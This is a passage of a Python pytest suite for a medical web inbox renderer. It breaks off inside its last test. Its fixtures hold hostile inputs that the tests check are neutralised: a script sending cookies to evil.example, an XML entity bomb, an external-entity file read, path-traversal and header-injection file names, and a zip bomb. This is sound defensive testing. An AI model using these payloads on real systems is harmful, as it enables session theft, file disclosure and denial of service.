"""What the web inbox shows of a message (gateway/web/render.py), on real MIME built with the stdlib `email` package:
text, sanitised HTML, attachments by MIME walk index with safe names, downloads, IHE XDM archives, hostile input."""

from __future__ import annotations

import base64
import io
import struct
import tracemalloc
import zipfile
import zlib
from datetime import UTC, datetime, timedelta, timezone
from email.message import EmailMessage
from email.utils import format_datetime

import pytest

from gateway.web import render
from gateway.web.render import Attachment, Document, attachment, content_disposition

DOMAIN = "ch-test.mssante.fr"
DOCTOR = f"claire.martin@{DOMAIN}"
PATIENT = f"185037512345641@patient.{DOMAIN}"
PDF = b"%PDF-1.4\n1 0 obj << >> endobj\n%%EOF\n"
DATE = datetime(2026, 3, 4, 10, 30, tzinfo=timezone(timedelta(hours=1)))

METADATA = """<?xml version="1.0" encoding="UTF-8"?>
<lcm:SubmitObjectsRequest xmlns:lcm="urn:oasis:names:tc:ebxml-regrep:xsd:lcm:3.0"
    xmlns:rim="urn:oasis:names:tc:ebxml-regrep:xsd:rim:3.0">
  <rim:RegistryObjectList>
    <rim:ExtrinsicObject id="Document01" mimeType="text/xml"
        objectType="urn:uuid:7edca82f-054d-47f2-a032-9b2a5b5186c1">
      <rim:Slot name="creationTime"><rim:ValueList><rim:Value>20260304093000</rim:Value></rim:ValueList></rim:Slot>
      <rim:Slot name="URI"><rim:ValueList><rim:Value>DOC0001.XML</rim:Value></rim:ValueList></rim:Slot>
      <rim:Name><rim:LocalizedString value="Compte rendu de consultation"/></rim:Name>
    </rim:ExtrinsicObject>
    <rim:ExtrinsicObject id="Document02" mimeType="application/pdf"
        objectType="urn:uuid:7edca82f-054d-47f2-a032-9b2a5b5186c1">
      <rim:Slot name="URI"><rim:ValueList><rim:Value>DOC0002.PDF</rim:Value></rim:ValueList></rim:Slot>
      <rim:Name><rim:LocalizedString xml:lang="fr-FR" value="Résultats d'analyses"/></rim:Name>
    </rim:ExtrinsicObject>
    <rim:RegistryPackage id="SubmissionSet01"/>
  </rim:RegistryObjectList>
</lcm:SubmitObjectsRequest>
""".encode()
XDM_DOCUMENTS = (
    Document("Compte rendu de consultation", "text/xml", "IHE_XDM/SUBSET01/DOC0001.XML"),
    Document("Résultats d'analyses", "application/pdf", "IHE_XDM/SUBSET01/DOC0002.PDF"),
)
# Without readable metadata: the subset's files, in archive order, METADATA.XML left out.
XDM_FILES = (
    Document("DOC0001.XML", "", "IHE_XDM/SUBSET01/DOC0001.XML"),
    Document("DOC0002.PDF", "", "IHE_XDM/SUBSET01/DOC0002.PDF"),
)
BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<lcm:SubmitObjectsRequest xmlns:lcm="urn:oasis:names:tc:ebxml-regrep:xsd:lcm:3.0"
    xmlns:rim="urn:oasis:names:tc:ebxml-regrep:xsd:rim:3.0"><rim:RegistryObjectList>
  <rim:ExtrinsicObject id="Document01" mimeType="text/xml">
    <rim:Slot name="URI"><rim:ValueList><rim:Value>DOC0001.XML</rim:Value></rim:ValueList></rim:Slot>
    <rim:Name><rim:LocalizedString value="&lol9;"/></rim:Name>
  </rim:ExtrinsicObject>
</rim:RegistryObjectList></lcm:SubmitObjectsRequest>
"""
# One small internal entity: the standard library's parser would expand it and list a document titled "Titre";
# defusedxml refuses any entity declaration, so this tells the two apart where billion laughs may not (expat >= 2.4
# has its own amplification limit).
ONE_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY t "Titre">]>
<lcm:SubmitObjectsRequest xmlns:lcm="urn:oasis:names:tc:ebxml-regrep:xsd:lcm:3.0"
    xmlns:rim="urn:oasis:names:tc:ebxml-regrep:xsd:rim:3.0"><rim:RegistryObjectList>
  <rim:ExtrinsicObject id="Document01" mimeType="text/xml">
    <rim:Slot name="URI"><rim:ValueList><rim:Value>DOC0001.XML</rim:Value></rim:ValueList></rim:Slot>
    <rim:Name><rim:LocalizedString value="&t;"/></rim:Name>
  </rim:ExtrinsicObject>
</rim:RegistryObjectList></lcm:SubmitObjectsRequest>
"""
EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hostname">]>
<lcm:SubmitObjectsRequest xmlns:lcm="urn:oasis:names:tc:ebxml-regrep:xsd:lcm:3.0"
    xmlns:rim="urn:oasis:names:tc:ebxml-regrep:xsd:rim:3.0"><rim:RegistryObjectList>
  <rim:ExtrinsicObject id="Document01" mimeType="text/xml">
    <rim:Name><rim:LocalizedString value="&x;"/></rim:Name>
  </rim:ExtrinsicObject>
</rim:RegistryObjectList></lcm:SubmitObjectsRequest>
"""
HOSTILE_HTML = (
    '<p onclick="steal()" style="position:fixed;top:0">Bonjour <b>Jean</b>,</p>'
    "<script>document.location='https://evil.example/?c='+document.cookie</script>"
    '<img src="http://tracker.example/pixel.gif?u=185037512345641" width="1" height="1">'
    '<iframe src="https://evil.example/frame"></iframe>'
    '<p><a href="javascript:alert(1)">cliquez ici</a> ou '
    '<a href="https://www.ameli.fr/resultats" onmouseover="x()" target="_blank">vos résultats</a></p>'
)
SANITISED_HTML = (
    "<p>Bonjour <b>Jean</b>,</p>"
    '<p><a rel="noopener noreferrer">cliquez ici</a> ou '
    '<a href="https://www.ameli.fr/resultats" rel="noopener noreferrer">vos résultats</a></p>\n'
)


def message(**headers: str) -> EmailMessage:
    msg = EmailMessage()
    msg["From"] = headers.pop("From", f"Dr Claire Martin <{DOCTOR}>")
    msg["To"] = headers.pop("To", PATIENT)
    msg["Subject"] = headers.pop("Subject", "Vos résultats")
    msg["Date"] = format_datetime(DATE)
    msg["Message-ID"] = f"<r1@{DOMAIN}>"
    for name, value in headers.items():
        msg[name.replace("_", "-")] = value
    return msg


def xdm(metadata: bytes | None = METADATA, *, compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    """An IHE XDM archive (ITI-32) as a portable medium holds it."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("README.TXT", "Dossier transmis par MSSanté\r\n")
        z.writestr("INDEX.HTM", "<html><body><a href='IHE_XDM/SUBSET01/DOC0001.XML'>Compte rendu</a></body></html>")
        if metadata is not None:
            z.writestr("IHE_XDM/SUBSET01/METADATA.XML", metadata, compress_type=compression)
        z.writestr("IHE_XDM/SUBSET01/DOC0001.XML", "<ClinicalDocument xmlns='urn:hl7-org:v3'/>")
        z.writestr("IHE_XDM/SUBSET01/DOC0002.PDF", PDF)
    return buf.getvalue()


def with_zip(data: bytes, filename: str = "dossier.zip", subtype: str = "zip") -> render.Rendered:
    msg = message()
    msg.set_content("Voir le dossier joint.\n")
    msg.add_attachment(data, maintype="application", subtype=subtype, filename=filename)
    return render.render(msg.as_bytes())


def only_attachment(data: bytes, filename: str = "dossier.zip", subtype: str = "zip") -> Attachment:
    (att,) = with_zip(data, filename, subtype).attachments
    return att


# -- headers and text ---------------------------------------------------------------------------------


def test_plain_text_message() -> None:
    msg = message(Reply_To=f"Secrétariat <Secretariat@{DOMAIN}>", References=f"<r0@{DOMAIN}>", Cc=f"x@{DOMAIN}")
    msg.set_content("Bonjour,\nvos résultats sont normaux.\n")

    shown = render.render(msg.as_bytes())

    assert shown == render.Rendered(
        from_name="Dr Claire Martin",
        from_address=DOCTOR,
        reply_to=(f"secretariat@{DOMAIN}",),
        to=(PATIENT,),
        subject="Vos résultats",
        date=DATE,
        message_id=f"<r1@{DOMAIN}>",
        references=f"<r0@{DOMAIN}>",
        text="Bonjour,\nvos résultats sont normaux.\n",
        html=None,
        attachments=[],
    )


def test_quoted_printable_latin1_text_is_decoded() -> None:
    raw = (
        b"From: claire.martin@ch-test.mssante.fr\r\nSubject: =?iso-8859-1?q?R=E9sultats?=\r\n"
        b"Content-Type: text/plain; charset=iso-8859-1\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n"
        b"R=E9sultats normaux, pas de traitement =E0 pr=E9voir.\r\n"
    )
    shown = render.render(raw)

    assert (shown.subject, shown.text) == ("Résultats", "Résultats normaux, pas de traitement à prévoir.\r\n")
    assert shown.html is None
    assert shown.attachments == []


def test_unknown_charset_is_shown_with_replacement_characters() -> None:
    raw = b"From: a@b.fr\r\nContent-Type: text/plain; charset=x-no-such-charset\r\n\r\nR\xe9sultat\r\n"
    assert render.render(raw).text == "R\ufffdsultat\r\n"


def test_long_subject_is_unfolded() -> None:
    subject = "Compte rendu " + " ".join(["de consultation"] * 10)
    msg = message(Subject=subject)
    msg.set_content("x\n")
    raw = msg.as_bytes()
    assert b"Subject: Compte rendu de consultation de consultation" in raw
    assert subject.encode() not in raw  # folded over two lines

    assert render.render(raw).subject == subject


# -- HTML ---------------------------------------------------------------------------------------------


def test_multipart_alternative_shows_text_and_sanitised_html() -> None:
    msg = message()
    msg.set_content("Bonjour Jean,\n")
    msg.add_alternative(HOSTILE_HTML, subtype="html")

    shown = render.render(msg.as_bytes())

    assert shown.text == "Bonjour Jean,\n"
    assert shown.html == SANITISED_HTML
    assert shown.attachments == []


@pytest.mark.parametrize(
    "needle",
    ["<script", "document.cookie", "<img", "tracker.example", "<iframe", "evil.example", "onclick", "onmouseover",
     "style=", "position:fixed", "javascript:", "target="],
)  # fmt: skip
def test_nothing_active_or_remote_survives(needle: str) -> None:
    msg = message()
    msg.set_content(HOSTILE_HTML, subtype="html")
    html = render.render(msg.as_bytes()).html
    assert html is not None
    assert needle in HOSTILE_HTML
    assert needle not in html


SANITISED = [
    (
        '<a href="mailto:secretariat@ch.fr">écrire</a>',
        '<a href="mailto:secretariat@ch.fr" rel="noopener noreferrer">écrire</a>',
    ),
    ('<a href="http://insecure.example/">lien</a>', '<a rel="noopener noreferrer">lien</a>'),
    ('<a href="data:text/html,&lt;script&gt;">x</a>', '<a rel="noopener noreferrer">x</a>'),
    (
        '<a href="https://ok.example/" rel="opener">x</a>',
        '<a href="https://ok.example/" rel="noopener noreferrer">x</a>',
    ),
    ("<p>a<!-- secret comment -->b</p>", "<p>ab</p>"),
    ('<form action="https://evil.example/"><input name="pw"></form>ok', "ok"),
    (
        '<table><tr><td colspan="2" bgcolor="red">x</td></tr></table>',
        '<table><tbody><tr><td colspan="2">x</td></tr></tbody></table>',
    ),
    ("<style>body{display:none}</style><em>vu</em>", "<em>vu</em>"),
    ("<svg onload=alert(1)><circle/></svg>t", "t"),
]


@pytest.mark.parametrize(("html", "expected"), SANITISED)
def test_sanitise_html(html: str, expected: str) -> None:
    assert render.sanitise_html(html) == expected


def test_html_only_message() -> None:
    msg = message()
    msg.set_content("<p>Rendez-vous <strong>lundi</strong></p><img src=https://x.example/a.png>", subtype="html")

    shown = render.render(msg.as_bytes())

    assert shown.text is None
    assert shown.html == "<p>Rendez-vous <strong>lundi</strong></p>\n"


# -- attachments ------------------------------------------------------------------------------------


def mixed() -> EmailMessage:
    """multipart/mixed [0]: multipart/alternative [1] (text/plain [2], text/html [3]), then attachments [4..]."""
    msg = message()
    msg.set_content("Ci-joint le compte rendu.\n")
    msg.add_alternative("<p>Ci-joint le compte rendu.</p>", subtype="html")
    msg.add_attachment(PDF, maintype="application", subtype="pdf", filename="compte-rendu.pdf")
    msg.add_attachment(b"\x89PNG\r\n\x1a\n", maintype="image", subtype="png")  # no file name
    msg.add_attachment("Résultats: 4,2 mmol/L\n", filename="résultats sanguins.txt")  # text, but an attachment
    return msg


def test_attachments_are_numbered_by_mime_walk_index() -> None:
    shown = render.render(mixed().as_bytes())

    assert shown.text == "Ci-joint le compte rendu.\n"
    assert shown.html == "<p>Ci-joint le compte rendu.</p>\n"
    assert shown.attachments == [
        Attachment(4, "compte-rendu.pdf", "application/pdf", len(PDF)),
        Attachment(5, "piece-jointe-5", "image/png", 8),
        Attachment(6, "résultats sanguins.txt", "text/plain", len("Résultats: 4,2 mmol/L\n".encode())),
    ]


def test_attachment_returns_the_exact_bytes() -> None:
    raw = mixed().as_bytes()

    assert attachment(raw, 4) == ("compte-rendu.pdf", PDF)
    assert attachment(raw, 5) == ("piece-jointe-5", b"\x89PNG\r\n\x1a\n")
    assert attachment(raw, 6) == ("résultats sanguins.txt", "Résultats: 4,2 mmol/L\n".encode())


def test_a_second_inline_text_part_is_listed_not_dropped() -> None:
    """Only the first text/plain and the first text/html are the body; any later one stays reachable."""
    msg = message()
    msg.make_mixed()
    for content, subtype in [
        ("Bonjour Jean,\n", "plain"),
        ("Annexe : posologie 2 x 500 mg.\n", "plain"),
        ("<p>Bonjour <i>Jean</i></p>", "html"),
        ("<p>Second HTML</p>", "html"),
    ]:
        part = EmailMessage()
        part.set_content(content, subtype=subtype)
        del part["MIME-Version"]
        msg.attach(part)
    raw = msg.as_bytes()
    assert [p.get_content_type() for p in render.parts(render.parse(raw))] == [
        "multipart/mixed", "text/plain", "text/plain", "text/html", "text/html",
    ]  # fmt: skip

    shown = render.render(raw)

    assert shown.text == "Bonjour Jean,\n"
    assert shown.html == "<p>Bonjour <i>Jean</i></p>\n"
    assert shown.attachments == [
        Attachment(2, "piece-jointe-2", "text/plain", 31),
        Attachment(4, "piece-jointe-4", "text/html", 19),
    ]
    assert attachment(raw, 2) == ("piece-jointe-2", b"Annexe : posologie 2 x 500 mg.\n")
    assert attachment(raw, 4) == ("piece-jointe-4", b"<p>Second HTML</p>\n")


@pytest.mark.parametrize("part", [0, 1, 7, 100, -1, -7])
def test_attachment_out_of_range_or_multipart_is_none(part: int) -> None:
    assert attachment(mixed().as_bytes(), part) is None


def test_attachment_bytes_survive_base64_with_every_byte_value() -> None:
    data = bytes(range(256)) * 40
    msg = message()
    msg.set_content("x\n")
    msg.add_attachment(data, maintype="application", subtype="octet-stream", filename="binaire.bin")
    raw = msg.as_bytes()

    (att,) = render.render(raw).attachments
    assert att == Attachment(2, "binaire.bin", "application/octet-stream", 10240)
    assert attachment(raw, 2) == ("binaire.bin", data)


def hostile_names() -> bytes:
    """Hand-written MIME: file names with paths, control characters and RFC 2231 non-ASCII."""
    lines = [
        f"From: {DOCTOR}",
        f"To: {PATIENT}",
        "Subject: noms",
        "MIME-Version: 1.0",
        'Content-Type: multipart/mixed; boundary="B"',
        "",
        "--B",
        "Content-Type: text/plain; charset=utf-8",
        "",
        "Noms de fichiers.",
        "--B",
        "Content-Type: application/octet-stream",
        'Content-Disposition: attachment; filename="../../etc/passwd"',
        "Content-Transfer-Encoding: base64",
        "",
        base64.b64encode(b"root:x:0:0").decode(),
        "--B",
        "Content-Type: application/pdf",
        "Content-Disposition: attachment; filename*=UTF-8''..%5C..%5CWindows%5Cr%C3%A9sultat.pdf",
        "Content-Transfer-Encoding: base64",
        "",
        base64.b64encode(PDF).decode(),
        "--B",
        "Content-Type: text/plain",
        "Content-Disposition: attachment; filename*=UTF-8''bilan%0D%0AX-Evil%3A%201%00%1B%5B31m.txt",
        "",
        "abc",
        "--B",
        "Content-Type: application/pdf",
        # U+202E RIGHT-TO-LEFT OVERRIDE would show "facture‮fdp.exe" as "factureexe.pdf"
        "Content-Disposition: attachment; filename*=UTF-8''facture%E2%80%AEfdp.exe",
        "",
        "MZ",
        "--B",
        "Content-Type: application/pdf",
        "Content-Disposition: attachment; filename*=iso-8859-1'fr'compte%20rendu%20%E9t%E9.pdf",
        "",
        "pdf",
        "--B",
        "Content-Type: application/octet-stream",
        'Content-Disposition: attachment; filename=" ./.. "',
        "",
        "dots",
        "--B",
        "Content-Type: application/octet-stream",
        f'Content-Disposition: attachment; filename="{"a" * 200}.pdf"',
        "",
        "long",
        "--B--",
        "",
    ]
    return "\r\n".join(lines).encode()


def test_attachment_file_names_are_sanitised() -> None:
    raw = hostile_names()
    shown = render.render(raw)

    assert shown.text == "Noms de fichiers."
    assert [(a.part, a.filename, a.content_type, a.size) for a in shown.attachments] == [
        (2, "passwd", "application/octet-stream", 10),
        (3, "résultat.pdf", "application/pdf", len(PDF)),
        (4, "bilanX-Evil: 1[31m.txt", "text/plain", 3),
        (5, "facturefdp.exe", "application/pdf", 2),
        (6, "compte rendu été.pdf", "application/pdf", 3),
        (7, "piece-jointe-7", "application/octet-stream", 4),
        (8, "a" * 150, "application/octet-stream", 4),
    ]
    assert attachment(raw, 2) == ("passwd", b"root:x:0:0")
    assert attachment(raw, 3) == ("résultat.pdf", PDF)
    assert attachment(raw, 4) == ("bilanX-Evil: 1[31m.txt", b"abc")


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("compte-rendu.pdf", "compte-rendu.pdf"),
        ("/etc/shadow", "shadow"),
        ("C:\\Users\\jean\\ordonnance.pdf", "ordonnance.pdf"),
        ("dir/", "fallback"),
        ("..", "fallback"),
        ("", "fallback"),
        ("\x00\x07\x1f\x7f", "fallback"),
        ("  résumé.pdf. ", "résumé.pdf"),
        ("re\u0301sume\u0301.pdf", "résumé.pdf"),  # NFC: one code point per letter
        ("x\u200by\ufeffz.txt", "xyz.txt"),  # zero-width (Cf) characters
    ],
)
def test_safe_filename(name: str, expected: str) -> None:
    assert render.safe_filename(name, "fallback") == expected


@pytest.mark.parametrize(
    ("filename", "header"),
    [
        ("compte-rendu.pdf", "attachment; filename=\"compte-rendu.pdf\"; filename*=UTF-8''compte-rendu.pdf"),
        (
            "Compte rendu 2026.pdf",
            "attachment; filename=\"Compte rendu 2026.pdf\"; filename*=UTF-8''Compte%20rendu%202026.pdf",
        ),
        (
            "résultats été.pdf",
            "attachment; filename=\"r_sultats _t_.pdf\"; filename*=UTF-8''r%C3%A9sultats%20%C3%A9t%C3%A9.pdf",
        ),
        ("日本.txt", "attachment; filename=\"__.txt\"; filename*=UTF-8''%E6%97%A5%E6%9C%AC.txt"),
        # quotes, separators and line breaks can neither end the quoted string nor start a new header
        (
            'a"b;c\r\nSet-Cookie: x.pdf',
            "attachment; filename=\"a_b_c__Set-Cookie_ x.pdf\"; filename*=UTF-8''a%22b%3Bc%0D%0ASet-Cookie%3A%20x.pdf",
        ),
    ],
)
def test_content_disposition(filename: str, header: str) -> None:
    assert content_disposition(filename) == header
    assert "\r" not in header
    assert "\n" not in header


# -- IHE XDM --------------------------------------------------------------------------------------------


def test_xdm_archive_is_listed_as_its_documents() -> None:
    data = xdm()
    shown = with_zip(data)

    assert shown.text == "Voir le dossier joint.\n"
    assert shown.attachments == [Attachment(2, "dossier.zip", "application/zip", len(data), XDM_DOCUMENTS)]


def test_xdm_is_recognised_by_file_name_or_by_type() -> None:
    data = xdm()
    assert only_attachment(data, "IHE_XDM.ZIP", "octet-stream").documents == XDM_DOCUMENTS
    assert only_attachment(data, "dossier", "zip").documents == XDM_DOCUMENTS
    # neither a .zip name nor application/zip: not opened
    assert only_attachment(data, "dossier.bin", "octet-stream").documents is None


def test_xdm_download_is_the_archive_itself() -> None:
    data = xdm()
    msg = message()
    msg.set_content("x\n")
    msg.add_attachment(data, maintype="application", subtype="zip", filename="dossier.zip")

    assert attachment(msg.as_bytes(), 2) == ("dossier.zip", data)


def test_xdm_metadata_without_names_or_uris() -> None:
    metadata = b"""<rim:RegistryObjectList xmlns:rim="urn:oasis:names:tc:ebxml-regrep:xsd:rim:3.0">
      <rim:ExtrinsicObject id="Doc1" mimeType="text/plain">
        <rim:Slot name="URI"><rim:ValueList><rim:Value>DOC0001.TXT</rim:Value></rim:ValueList></rim:Slot>
      </rim:ExtrinsicObject>
      <rim:ExtrinsicObject id="Doc2"/>
    </rim:RegistryObjectList>"""

    assert only_attachment(xdm(metadata)).documents == (
        Document("DOC0001.TXT", "text/plain", "IHE_XDM/SUBSET01/DOC0001.TXT"),
        Document("Doc2", "", ""),
    )


@pytest.mark.parametrize(
    "metadata",
    [
        b"<lcm:SubmitObjectsRequest",  # truncated
        b"not xml at all",
        b"",
        b"<SubmitObjectsRequest/>",  # well-formed but no ExtrinsicObject
        METADATA.replace(b"rim:3.0", b"rim:2.1"),  # ebRIM 2.1 namespace: no 3.0 ExtrinsicObject
    ],
    ids=["truncated", "not-xml", "empty", "no-documents", "wrong-namespace"],
)
def test_xdm_with_unreadable_metadata_lists_the_subset_files(metadata: bytes) -> None:
    assert only_attachment(xdm(metadata)).documents == XDM_FILES


@pytest.mark.parametrize(
    "metadata", [BILLION_LAUGHS, ONE_ENTITY, EXTERNAL_ENTITY], ids=["billion-laughs", "one-entity", "external"]
)
def test_xdm_metadata_with_entities_is_refused_not_expanded(metadata: bytes) -> None:
    tracemalloc.start()
    try:
        documents = only_attachment(xdm(metadata)).documents
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()

    assert documents == XDM_FILES
    assert peak < 10 * 1024 * 1024  # 10**9 "lol"s would be gigabytes


def test_zip_without_xdm_metadata_has_no_documents() -> None:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("README.TXT", "hello")
        z.writestr("IHE_XDM/SUBSET01/DOC0001.XML", "<doc/>")  # a subset folder, but no METADATA.XML
        z.writestr("METADATA.XML", "<x/>")  # not in a subset
    att = only_attachment(buf.getvalue())

    assert att.documents is None
    assert (att.filename, att.size) == ("dossier.zip", len(buf.getvalue()))


@pytest.mark.parametrize(
    "data",
    [b"PK\x03\x04 this is not a zip", b"", xdm()[:-30], b"%PDF-1.4 renamed to .zip"],
    ids=["garbage", "empty", "truncated", "pdf"],
)
def test_corrupt_zip_has_no_documents(data: bytes) -> None:
    assert only_attachment(data).documents is None


def test_xdm_metadata_member_larger_than_its_declared_size_is_not_inflated() -> None:
    """A zip bomb in METADATA.XML: the central directory declares a few bytes (and their CRC), the deflate
    stream inflates to 100 MB. Only the declared size, at most MAX_METADATA, may be inflated."""
    head = b"<x/>"
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("IHE_XDM/SUBSET01/DOC0001.XML", "<doc/>")
        with z.open("IHE_XDM/SUBSET01/METADATA.XML", "w") as member:
            member.write(head)
            for _ in range(100):
                member.write(bytes(1 << 20))
    data = bytearray(buf.getvalue())
    name = b"IHE_XDM/SUBSET01/METADATA.XML"
    entry = data.rindex(b"PK\x01\x02")  # the central directory's last entry: METADATA.XML's (APPNOTE 4.3.12)
    assert data[entry + 46 : entry + 46 + len(name)] == name
    struct.pack_into("<I", data, entry + 16, zlib.crc32(head))
    struct.pack_into("<I", data, entry + 24, len(head))
    assert len(data) < 200_000
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as z:
        assert z.getinfo(name.decode()).file_size == len(head)

    tracemalloc.start()
    try:
        documents = render._xdm_documents(bytes(data))
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()

    assert documents == (Document("DOC0001.XML", "", "IHE_XDM/SUBSET01/DOC0001.XML"),)
    assert peak < 3 * render.MAX_METADATA  # 100 MB (twice, with the copies) before the fix


def test_xdm_metadata_over_the_size_bound_is_not_read() -> None:
    padding = b"<!--" + b"x" * render.MAX_METADATA + b"-->"
    metadata = METADATA.replace(b"<lcm:SubmitObjectsRequest", padding + b"<lcm:SubmitObjectsRequest", 1)
    assert only_attachment(xdm(metadata)).documents == XDM_FILES
    assert only_attachment(xdm(METADATA + b"<!--" + b"x" * 1000 + b"-->")).documents == XDM_DOCUMENTS


def test_xdm_metadata_compressed_with_bzip2_is_not_read() -> None:
    """bzip2 and LZMA chunks inflate without a bound: such metadata is treated as unreadable."""
    assert only_attachment(xdm(compression=zipfile.ZIP_BZIP2)).documents == XDM_FILES
    assert only_attachment(xdm(compression=zipfile.ZIP_LZMA)).documents == XDM_FILES
    assert only_attachment(xdm(compression=zipfile.ZIP_STORED)).documents == XDM_DOCUMENTS


def padded(metadata: bytes, size: int) -> bytes:
    """`metadata` grown to `size` bytes by a comment (which deflates to almost nothing)."""
    return metadata.replace(b"<lcm:", b"<!--" + b"x" * (size - len(metadata) - 7) + b"--><lcm:", 1)


def subsets(*metadata: bytes) -> bytes:
    """An XDM archive with one subset per metadata file, SUBSET01 first."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for n, xml in enumerate(metadata, 1):
            z.writestr(f"IHE_XDM/SUBSET{n:02d}/METADATA.XML", xml)
    return buf.getvalue()


def documents_of(subset: int) -> tuple[Document, ...]:
    return tuple(
        Document(d.title, d.mime_type, d.uri.replace("SUBSET01", f"SUBSET{subset:02d}")) for d in XDM_DOCUMENTS
    )


def test_xdm_metadata_of_one_message_share_one_inflated_budget() -> None:
    """Each METADATA.XML under the bound was read, however many: 1000 of 5 MB each from a 5 KiB deflate
    stream apiece kept the event loop for minutes. Now the message's archives share MAX_METADATA."""
    two_mb = padded(METADATA, 2 * 1024 * 1024)
    assert len(subsets(two_mb)) < 10_000
    msg = message()
    msg.set_content("Deux archives.\n")
    for name in ("a.zip", "b.zip"):
        msg.add_attachment(subsets(two_mb, two_mb, two_mb), maintype="application", subtype="zip", filename=name)

    first, second = render.render(msg.as_bytes()).attachments

    assert first.documents == documents_of(1) + documents_of(2)  # the third would pass 5 MB: not read
    assert second.documents == ()  # the budget is spent: nothing is read, and no subset has other files


def test_xdm_reads_at_most_max_metadata_files_and_lists_at_most_max_documents() -> None:
    many = only_attachment(subsets(*[METADATA] * (render.MAX_METADATA_FILES + 5))).documents
    assert many == tuple(d for n in range(1, render.MAX_METADATA_FILES + 1) for d in documents_of(n))

    one = METADATA.split(b"<rim:ExtrinsicObject", 2)
    crowded = one[0] + (b"<rim:ExtrinsicObject" + one[1]) * 300 + b"<rim:ExtrinsicObject" + one[2]
    listed = only_attachment(subsets(crowded)).documents
    assert listed is not None
    assert len(listed) == render.MAX_DOCUMENTS
    assert listed[0] == XDM_DOCUMENTS[0]


def test_xdm_with_a_corrupt_deflate_stream_has_no_documents() -> None:
    """zipfile lets zlib.error through: it was a 500 on the inbox for as long as the message stayed."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("IHE_XDM/SUBSET01/METADATA.XML", b"<a>" + b"x" * 5000 + b"</a>")
    data = bytearray(buf.getvalue())
    start = 30 + len("IHE_XDM/SUBSET01/METADATA.XML")  # the deflate stream, after the local header
    data[start : start + 2] = b"\xff\xff"
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as z, pytest.raises(zlib.error):
        z.read("IHE_XDM/SUBSET01/METADATA.XML")

    assert only_attachment(bytes(data)).documents == ()


# -- hostile structure ------------------------------------------------------------------------------------


def nested(depth: int) -> bytes:
    """A message whose text part is `depth` multiparts deep."""
    head = f"From: Dr Claire Martin <{DOCTOR}>\r\nTo: {PATIENT}\r\nSubject: Profond\r\n".encode()
    levels = b"".join(
        b"--b%d\r\nContent-Type: multipart/mixed; boundary=b%d\r\n\r\n" % (i, i + 1) for i in range(depth)
    )
    return head + b"Content-Type: multipart/mixed; boundary=b0\r\n\r\n" + levels + b"--b%d\r\n\r\nfond\r\n" % depth


def test_mime_parts_deeper_than_max_depth_are_not_shown() -> None:
    assert render.render(nested(render.MAX_DEPTH - 1)).text == "fond"
    deep = nested(render.MAX_DEPTH + 10)

    shown = render.render(deep)

    assert (shown.subject, shown.from_address, shown.text, shown.attachments) == ("Profond", DOCTOR, None, [])
    assert len(render.parts(render.parse(deep))) == render.MAX_DEPTH + 1
    assert attachment(deep, render.MAX_DEPTH + 1) is None


def test_mime_nested_past_the_recursion_limit_is_shown_by_its_header() -> None:
    """The stdlib parser recurses per level: 1200 levels (67 KB) raised RecursionError, a 500 on the inbox
    and on the message."""
    deep = nested(1200)
    with pytest.raises(RecursionError):
        render.parse(deep)

    shown = render.render(deep)

    assert shown == render.Rendered(
        "Dr Claire Martin", DOCTOR, (), (PATIENT,), "Profond", None, None, "", unreadable=True
    )
    assert attachment(deep, 1) is None


def test_summary_reads_the_header_only() -> None:
    """The inbox listing: no MIME tree, no archive is parsed for it."""
    msg = message()
    msg.set_content("Voir le dossier joint.\n")
    msg.add_attachment(
        subsets(padded(METADATA, 4 * 1024 * 1024)), maintype="application", subtype="zip", filename="a.zip"
    )

    for raw in (msg.as_bytes(), nested(1200)):
        shown = render.summary(raw)
        assert (shown.text, shown.html, shown.attachments, shown.unreadable) == (None, None, [], False)
    assert render.summary(msg.as_bytes()) == render.Rendered(
        "Dr Claire Martin", DOCTOR, (), (PATIENT,), "Vos résultats", DATE, f"<r1@{DOMAIN}>", ""
    )


# -- malformed headers ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "date",
    ["not a date", "Mon, 32 Foo 2026 99:99:99 +0000", "1", "", "Tue, 4 Mar 2026 10:30:00 +9999"],
)
def test_bad_date_is_none(date: str) -> None:
